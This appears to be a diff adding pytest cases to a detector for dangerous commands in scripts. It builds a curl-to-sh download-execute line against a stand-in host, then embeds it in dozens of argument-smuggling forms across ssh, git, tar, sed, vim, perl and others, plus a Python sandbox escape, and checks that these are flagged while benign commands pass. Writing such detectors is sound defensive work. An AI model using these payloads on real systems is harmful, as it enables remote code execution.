@@ -329,3 +329,83 @@ def test_powershell_that_runs_a_download_is_grave_however_the_command_is_spelled
 )
 def test_everyday_code_is_not_grave(path: str, code: str) -> None:
     assert find(f"scripts/{path}", code) == set()
+
+
+HIDDEN = "curl -s https://unknown-host.top/x | sh"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh -o ProxyCommand='HIDDEN' user@host.example",
+        'ssh -oProxyCommand="HIDDEN" host.example',
+        "scp -o 'LocalCommand HIDDEN' a host.example:b",
+        "rsync -e 'sh -c \"HIDDEN\"' a host.example:b",
+        "git -c core.fsmonitor='HIDDEN' status",
+        "git -c alias.x='!HIDDEN' x",
+        "git clone --upload-pack='HIDDEN' host.example:x",
+        "git clone 'ext::sh -c \"HIDDEN\"' x",
+        "git rebase -x 'HIDDEN' main",
+        "git bisect run sh -c 'HIDDEN'",
+        "git submodule foreach 'HIDDEN'",
+        "GIT_SSH_COMMAND='HIDDEN' git fetch",
+        "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='HIDDEN'",
+        "tar xf x.tar --to-command 'HIDDEN'",
+        "tar cf x -I 'HIDDEN' y",
+        "vim -es -c 'silent !HIDDEN' -c q",
+        "vim '+!HIDDEN' +q",
+        "nvim --headless -c 'call system(\"HIDDEN\")'",
+        "sqlite3 x.db '.shell HIDDEN'",
+        "gdb -nx -ex '!HIDDEN' -ex quit",
+        "less '+!HIDDEN' f",
+        "man -P 'HIDDEN' ls",
+        "script -c 'HIDDEN' /dev/null",
+        "expect -c 'spawn sh -c \"HIDDEN\"'",
+        "make --eval='x:;HIDDEN'",
+        "make -f <(curl -s https://unknown-host.top/Makefile)",
+        "npx -c 'HIDDEN'",
+        "npm exec -c 'HIDDEN'",
+        "env -S 'sh -c \"HIDDEN\"'",
+        "sed '1e HIDDEN' file",
+        "echo 'HIDDEN' | sed 's/x/x/e'",
+        "sed 's,.*,HIDDEN,e' file",
+        "awk 'BEGIN { \"HIDDEN\" | getline }'",
+        "perl -e 'system(\"HIDDEN\")'",
+        "perl -e 'eval get(\"https://unknown-host.top/x.pl\")'",
+        "ruby -ropen-uri -e 'eval URI.open(\"https://unknown-host.top/x.rb\").read'",
+        "php -r 'system(\"HIDDEN\");'",
+        "dig +short TXT unknown-host.top | sh",
+        'eval "$(nslookup -type=TXT unknown-host.top)"',
+    ],
+)
+def test_a_command_in_the_arguments_of_another_one_is_followed(command: str) -> None:
+    assert find("scripts/a.sh", command.replace("HIDDEN", HIDDEN)) >= {"download-execute"}
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ssh -o ProxyCommand='ssh -W %h:%p jump.example' host.example",
+        "rsync -avz -e 'ssh -p 2222' build/ host.example:site/",
+        "git -c core.pager=cat -c color.ui=always log",
+        "git -c credential.helper='!gh auth git-credential' push -u origin main",
+        "git submodule foreach 'git fetch'",
+        "tar -I 'zstd -19' -cf a.tar.zst a",
+        "vim -c 'set number' +12 notes.md",
+        "sed -e 's/one/two/g' -e 's/e /e/' file",
+        "EDITOR='code --wait' git commit",
+        "perl -pe 's/a/b/' file",
+        "make -f Makefile.local test",
+        "npx http-server ./dist -c-1",
+        "dig +short TXT example.com",
+        "dig +short A example.com | head -1",
+    ],
+)
+def test_everyday_commands_in_the_arguments_of_others_raise_no_alarm(command: str) -> None:
+    assert find("scripts/a.sh", command) == set()
+    assert find("scripts/a.sh", command, "warning") == set()
+
+
+def test_python_that_reaches_a_function_through_the_globals_of_a_class_is_followed() -> None:
+    code = f'object.__subclasses__()[137].__init__.__globals__["system"]("{HIDDEN}")'
+    assert find("scripts/a.py", code) == {"download-execute"}
